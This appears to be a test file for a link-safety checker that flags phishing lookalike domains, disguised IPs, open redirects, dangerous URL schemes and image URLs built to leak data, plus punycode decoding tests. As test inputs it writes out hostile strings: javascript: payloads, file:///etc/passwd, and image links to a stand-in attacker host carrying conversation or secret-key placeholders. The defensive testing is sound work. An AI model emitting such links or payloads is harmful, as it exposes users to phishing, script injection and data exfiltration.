import { describe, expect, it } from "vitest";
import { checkLinks, LINKS_MAX } from "./check-links.js";
import { decodePunycode } from "./punycode.js";

const SOURCE = "www.harbourmills.example";
const issuesOf = (text: string) => checkLinks(text, SOURCE).map(({ issues }) => issues.join(" "));

describe("the issues of a link", () => {
  it.each([
    ["[https://www.bank.example/login](https://evil.example/)", "text_target_mismatch"],
    ['<a href="https://evil.example/"><b>www.bank.example</b></a>', "text_target_mismatch"],
    ["[help@bank.example](mailto:help@evil.example)", "text_target_mismatch"],
    ["[bank.example][1]\n\n[1]: https://evil.example/", "text_target_mismatch"],
    ["[a.github.io](https://b.github.io/)", "text_target_mismatch"],
    ["[www.bank.example](https://login.bank.example/a)", ""],
    [
      "[index.js](https://host.example/a) [Node.js](https://nodejs.org) [v1.2.3](https://a.example/)",
      ",,",
    ],
    ["https://xn--80ak6aa92e.com/", "punycode_lookalike"],
    ["[münchen.example](https://xn--mnchen-3ya.example/)", ""],
    ["[paypa1.com](https://paypa1.com/)", "lookalike_host"],
    ["[paypаl.com](https://paypаl.com/)", "mixed_script_host punycode_lookalike"],
    ["https://pаypal.com/", "mixed_script_host punycode_lookalike"],
    ["https://paypał.com/", "punycode_lookalike"],
    ["https://hаrbоurmills.example/", "mixed_script_host punycode_lookalike"],
    ["https://xn--mnchen-3ya.de https://例え.jp https://пример.рф https://café.example", ",,,"],
    [
      "https://paypa1.com https://rnicrosoft.com https://arnazon.com",
      "lookalike_host,lookalike_host,lookalike_host",
    ],
    [
      "https://gihub.com https://goolge.com https://paypall.com",
      "lookalike_host,lookalike_host,lookalike_host",
    ],
    [
      "https://paypal.com.evil.example/ https://paypal-login.example",
      "lookalike_host,lookalike_host",
    ],
    [
      "https://harbourmi11s.example https://harbourmills-support.example",
      "lookalike_host,lookalike_host",
    ],
    ["https://shop.harbourmills.example https://www.google.com.au https://maps.google.com", ",,"],
    ["https://user:secret@host.example/", "credentials_in_url"],
    ["https://paypal.com@evil.example/", "credentials_in_url"],
    ["http://8.8.8.8/a", "ip_host"],
    [
      "http://134744072/ http://0x08080808/ http://010.8.8.8/ http://8.2056/",
      "ip_host disguised_ip_host,ip_host disguised_ip_host,ip_host disguised_ip_host,ip_host disguised_ip_host",
    ],
    [
      "http://127.0.0.1/ http://169.254.169.254/latest http://10.1.2.3/",
      "ip_host private_host,ip_host private_host,ip_host private_host",
    ],
    [
      "http://[2001:4860:4860::8888]/ http://[::1]/ http://[::ffff:10.0.0.1]/",
      "ip_host,ip_host private_host,ip_host disguised_ip_host private_host",
    ],
    ["http://localhost/ http://printer.local/", "private_host,private_host"],
    ["https://bit.ly/3abc https://tinyurl.com/a", "shortener,shortener"],
    [
      "[a](javascript:alert(1)) [b](JAVA&#115;cript:alert(1)) [c](vbscript:x)",
      "javascript_scheme,javascript_scheme,vbscript_scheme",
    ],
    ['<a href="java\tscript:alert(1)">a</a>', "invisible_characters javascript_scheme"],
    ["[a](data:text/html;base64,PGI+)", "data_scheme"],
    ["![a](data:image/png;base64,iVBORw0KGgo=)", ""],
    ["file:///etc/passwd", "file_scheme"],
    ["[a](intent://scan#Intent;end)", "unusual_scheme"],
    [
      "https://a.example/?next=https://evil.example/ https://a.example/?next=%2F%2Fevil.example",
      "open_redirect,open_redirect",
    ],
    ["https://a.example/?next=https://www.a.example/home https://a.example/?next=/home", ","],
    ["https://www.google.com/url?q=https://evil.example/", "open_redirect"],
    ["https://a.example:8443/ https://a.example:443/ http://a.example:80/", "unusual_port,,"],
    ["![a](https://evil.example/p.png?d={{conversation}})", "placeholder_in_url"],
    ['<img src="https://evil.example/p.gif?k=[SECRET_KEY]">', "placeholder_in_url"],
    [`![a](https://evil.example/p.png?q=${"QUJDRA".repeat(20)})`, "data_in_image_url"],
    ["https://goo\u200bgle.com/", "invisible_characters"],
    ["http://good.example\\@evil.example", "deceptive_separator"],
    ["https://good.example∕login.evil.example/", "deceptive_separator"],
    ["https://%65vil.example/", "encoded_host"],
    ["https://[::g]/ https://a:99999/", "malformed_url,malformed_url"],
  ])("of %s are %s", (text, wanted) => {
    const found = issuesOf(text).map((issues) => issues.split(" ").sort().join(" "));
    expect(found.join(",")).toBe(
      wanted
        .split(",")
        .map((one) => one.split(" ").sort().join(" "))
        .join(","),
    );
  });
});

describe("links", () => {
  it("are found in every form, with what stands for them, in order, each once", () => {
    const text = `See [the *docs*](https://a.example/a_(b) "Title"), <https://b.example/>,
      ![a plan](https://c.example/p.png), <a class=x href='https://d.example/?a=1&amp;b=2'>here <b>now</b></a>,
      [text][Ref One], [ref one] and (https://e.example/f). https://e.example/f! www.g.example/h
      [here](#part) [more](./more.md) <form action="//i.example/post"> <iframe src="https://j.example"></iframe>

[ref one]: <https://k.example/l> 'm'`;
    expect(checkLinks(text, undefined).map(({ url, shown_as }) => [url, shown_as])).toEqual([
      ["https://a.example/a_(b)", "the docs"],
      ["https://b.example/", null],
      ["https://c.example/p.png", "a plan"],
      ["https://d.example/?a=1&b=2", "here now"],
      ["https://k.example/l", "text"],
      ["https://k.example/l", "ref one"],
      ["https://e.example/f", null],
      ["www.g.example/h", null],
      ["//i.example/post", null],
      ["https://j.example", null],
    ]);
  });

  it("are bounded in number, those with issues first", () => {
    const many = Array.from({ length: 2 * LINKS_MAX }, (_, at) => `https://h${at}.example/`);
    const links = checkLinks([...many, "https://bit.ly/a"].join(" "), undefined);
    expect(links.length).toBe(LINKS_MAX);
    expect(links.at(-1)).toEqual({
      url: "https://bit.ly/a",
      shown_as: null,
      issues: ["shortener"],
    });
  });
});

/** Sample strings of RFC 3492, section 7.1, in lower case where that says so. */
it.each([
  ["xn--egbpdaj6bu4bxfgehfvwxn", "ليهمابتكلموشعربي؟"],
  ["xn--ihqwcrb4cv8a8dqg056pqjye", "他们为什么不说中文"],
  ["xn--4dbcagdahymbxekheh6e0a7fei0b", "למההםפשוטלאמדבריםעברית"],
  ["xn--n8jok5ay5dzabd5bym9f0cm5685rrjetr6pdxa", "なぜみんな日本語を話してくれないのか"],
  ["xn--b1abfaaepdrnnbgefbadotcwatmq2g4l", "почемужеонинеговорятпорусски"],
  ["xn--de-jg4avhby1noc0d", "パフィーdeルンバ"],
  ["xn--d9juau41awczczp", "そのスピードで"],
  ["plain", "plain"],
  ["xn--a\u00e9", undefined],
])("reads the label %s", (label, letters) => {
  expect(decodePunycode(label)).toBe(letters);
});
